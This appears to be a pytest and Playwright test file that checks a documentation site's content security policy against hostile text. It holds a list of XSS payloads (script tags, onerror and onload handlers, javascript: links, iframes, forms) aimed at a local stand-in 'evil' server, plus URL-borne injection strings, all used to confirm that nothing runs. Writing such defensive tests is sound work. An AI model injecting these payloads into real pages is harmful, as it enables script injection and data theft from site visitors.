"""A browser under the enforced policy: our pages break no rule, ask no other server, and hostile text runs nothing."""

from __future__ import annotations

import re
from collections.abc import Callable, Iterator, Mapping
from dataclasses import dataclass
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from threading import Thread
from typing import Any

import pytest
from playwright.sync_api import BrowserContext, expect

from macros.publish.policy import Policy, with_policy
from tests.support.project import full_site
from tests.support.watched import Watched

pytestmark = [pytest.mark.browser, pytest.mark.build]

Serve = Callable[..., str]

@pytest.fixture
def watched(reader: Callable[..., BrowserContext], guarded: str) -> Watched:
    """A page of a reader who is at that address."""
    return Watched(reader(base_url=guarded).new_page())


def test_search_colours_menu_bar_and_printing_work_under_the_policy(watched: Watched, guarded: str) -> None:
    page = watched.page
    page.add_init_script("window.print = () => { window.printed = true }")
    page.goto("./")
    page.get_by_role("navigation", name="Places", exact=True).get_by_role("link").nth(1).click()
    page.wait_for_load_state("networkidle")
    assert watched.broken() == []
    page.locator(".hub-scheme:visible").click()
    expect(page.locator("body")).to_have_attribute("data-md-color-scheme", "hub-dark")
    page.reload()
    expect(page.locator("body")).to_have_attribute("data-md-color-scheme", "hub-dark")
    page.keyboard.press("/")
    page.keyboard.type("carers")
    page.keyboard.press("Enter")
    expect(page.locator("#found")).to_be_visible()
    page.get_by_role("navigation", name="Filter results").get_by_role("link").nth(1).click()
    page.locator("#hub-search h3 a").first.click()
    page.wait_for_load_state("networkidle")
    assert watched.broken() == []
    page.goto("seven-minute/carers/")
    page.get_by_role("button", name="Print").click()
    assert page.evaluate("window.printed") is True
    page.set_viewport_size({"width": 320, "height": 640})
    page.locator(".hub-menu summary").click()
    expect(page.get_by_role("navigation", name="Places, menu")).to_be_visible()
    assert watched.broken() == []
    assert watched.said == []
    assert watched.elsewhere(guarded) == []
    assert watched.opened == []


HOSTILE = (
    "seven-minute/hostile/", "themes/marked-up/", "changes/2026-10/", "seven-minute/", "themes/", "az/", "search/?q=script",
    "data/", "events/", "sar/", "about/braces/", "search/?q=%3Cimg+src%3Dx+onerror%3Dalert(1)%3E",
    "./#<img src=x onerror=alert(1)>",
)
"""Where the hostile text of the small site stands, and where a reader can bring some along."""


@pytest.mark.parametrize("address", HOSTILE)
def test_hostile_text_runs_nothing_and_asks_nobody(
    reader: Callable[..., BrowserContext], root: Path, tmp_path_factory: pytest.TempPathFactory, serve: Serve,
    headers: Mapping[str, str], address: str,
) -> None:
    site = serve(full_site(root, tmp_path_factory, "managers"), headers)
    watched = Watched(reader(base_url=site).new_page())
    watched.page.goto(address)
    watched.page.wait_for_load_state("networkidle")
    watched.page.evaluate("document.querySelectorAll('details').forEach(d => { d.open = true })")
    assert watched.broken() == []
    assert watched.said == []
    assert watched.elsewhere(site) == []
    assert watched.opened == []


PLANTED = {
    "script": "<script>steal()</script>",
    "script of another server": '<script src="{evil}a.js"></script>',
    "handler": '<img src="nowhere.png" onerror="steal()">',
    "handler of a drawing": '<svg onload="steal()"></svg>',
    "link that is a script": '<a id="planted" href="javascript:steal()">more</a>',
    "picture of another server": '<img src="{evil}a.png">',
    "style of another server": '<link rel="stylesheet" href="{evil}a.css">',
    "style": '<style>body {{ background: url("{evil}b.png") }}</style>',
    "style attribute": '<p style="background: url({evil}c.png)">text</p>',
    "frame": '<iframe src="{evil}f.html"></iframe>',
    "frame of its own": '<iframe srcdoc="<script>parent.steal()</script>"></iframe>',
    "object": '<object data="{evil}o.swf"></object><embed src="{evil}e.swf">',
    "film": '<video src="{evil}v.mp4" autoplay></video><audio src="{evil}v.mp3" autoplay></audio>',
    "base": '<base href="{evil}"><img src="d.png">',
    "form": '<form id="planted" action="{evil}form" method="get"><input name="a" value="b"></form>',
    "configuration of the theme": (
        '<p id="__config">{{"base": ".", "features": [], "search": "planted.js", "translations": {{}}}}</p>'
        '<div data-md-component="search"><input data-md-component="search-query">'
        '<div data-md-component="search-result"><div></div><ol></ol></div></div>'
    ),
    "module": '<script type="module">steal()</script><script type="importmap">{{"imports": {{"a": "{evil}a.js"}}}}</script>',
    "prefetch": '<link rel="preload" as="script" href="{evil}p.js"><link rel="prefetch" href="{evil}p.html">',
}
"""Markup that never gets past the sanitiser, put into a built page as if it had."""
SAYS_NOTHING = {"base", "frame of its own"}
"""Where the page hears nothing of a broken rule: a frame's are broken in the frame, and a refused base is no load."""


@dataclass
class Evil:
    """Another server, which writes down whatever it is asked."""

    address: str
    asked: list[str]


@pytest.fixture
def evil() -> Iterator[Evil]:
    """A server of somebody else."""
    asked: list[str] = []

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            asked.append(self.path)
            self.send_response(200)
            self.send_header("Access-Control-Allow-Origin", "*")
            self.send_header("Content-Length", "0")
            self.end_headers()

        def log_message(self, format: str, *args: Any) -> None:  # noqa: A002 - the library's own name
            """Say nothing."""

    with ThreadingHTTPServer(("127.0.0.1", 0), Handler) as server:
        Thread(target=server.serve_forever, daemon=True).start()
        yield Evil(f"http://127.0.0.1:{server.server_port}/", asked)
        server.shutdown()


@pytest.mark.parametrize("way", ["headers", "in the page"])
@pytest.mark.parametrize("planted", PLANTED)
def test_markup_that_got_past_the_sanitiser_still_runs_nothing(  # noqa: PLR0913 - the browser, the page, both servers
    reader: Callable[..., BrowserContext], site_folder: Path, tmp_path: Path, serve: Serve, headers: Mapping[str, str],
    policy: Policy, evil: Evil, *, planted: str, way: str,
) -> None:
    page = (site_folder / "index.html").read_text("utf-8")
    markup = PLANTED[planted].format(evil=evil.address)
    made = page.replace('<span id="hub-content"', f'{markup}<span id="hub-content"', 1)
    assert made != page
    (tmp_path / "index.html").write_text(with_policy(made, policy) if way == "in the page" else made, encoding="utf-8")
    (tmp_path / "planted.js").write_text("postMessage('planted')", encoding="utf-8")
    for name in ("assets", "search"):
        (tmp_path / name).symlink_to(site_folder / name, target_is_directory=True)
    watched = Watched(reader(base_url=serve(tmp_path, headers if way == "headers" else {})).new_page())
    watched.page.add_init_script("window.stolen = 0; window.steal = () => { window.stolen += 1 }")
    watched.page.goto("./")
    watched.page.wait_for_load_state("networkidle")
    watched.page.evaluate("const p = document.getElementById('planted'); if (p) p.submit ? p.submit() : p.click()")
    watched.page.wait_for_timeout(150)
    assert watched.page.evaluate("window.stolen") == 0
    assert watched.opened == []
    assert evil.asked == []
    if planted not in SAYS_NOTHING:
        assert watched.broken() != []


def test_without_the_policy_the_planted_markup_would_run(
    reader: Callable[..., BrowserContext], site_folder: Path, tmp_path: Path, serve: Serve, evil: Evil,
) -> None:
    page = (site_folder / "index.html").read_text("utf-8")
    ways = ("script", "picture of another server", "configuration of the theme")
    markup = "".join(PLANTED[way].format(evil=evil.address) for way in ways)
    (tmp_path / "index.html").write_text(page.replace('<span id="hub-content"', f'{markup}<span id="hub-content"', 1), "utf-8")
    (tmp_path / "planted.js").write_text("postMessage('planted')", encoding="utf-8")
    (tmp_path / "assets").symlink_to(site_folder / "assets", target_is_directory=True)
    watched = Watched(reader(base_url=serve(tmp_path)).new_page())
    watched.page.add_init_script("window.stolen = 0; window.steal = () => { window.stolen += 1 }")
    watched.page.goto("./")
    watched.page.wait_for_load_state("networkidle")
    assert watched.page.evaluate("window.stolen") == 1
    assert evil.asked == ["/a.png"]
    assert [one.rpartition("/")[2] for one in watched.opened] == ["planted.js"]


def test_no_page_of_ours_has_a_style_or_a_handler_of_its_own(site_folder: Path) -> None:
    found = [
        (path.relative_to(site_folder).as_posix(), match[0][:80])
        for path in sorted(site_folder.rglob("*.html"))
        for match in re.finditer(r"<[a-z][^<>]*\s(?:style|on[a-z]+)\s*=|<style\b", path.read_text("utf-8"))
    ]
    assert found == []
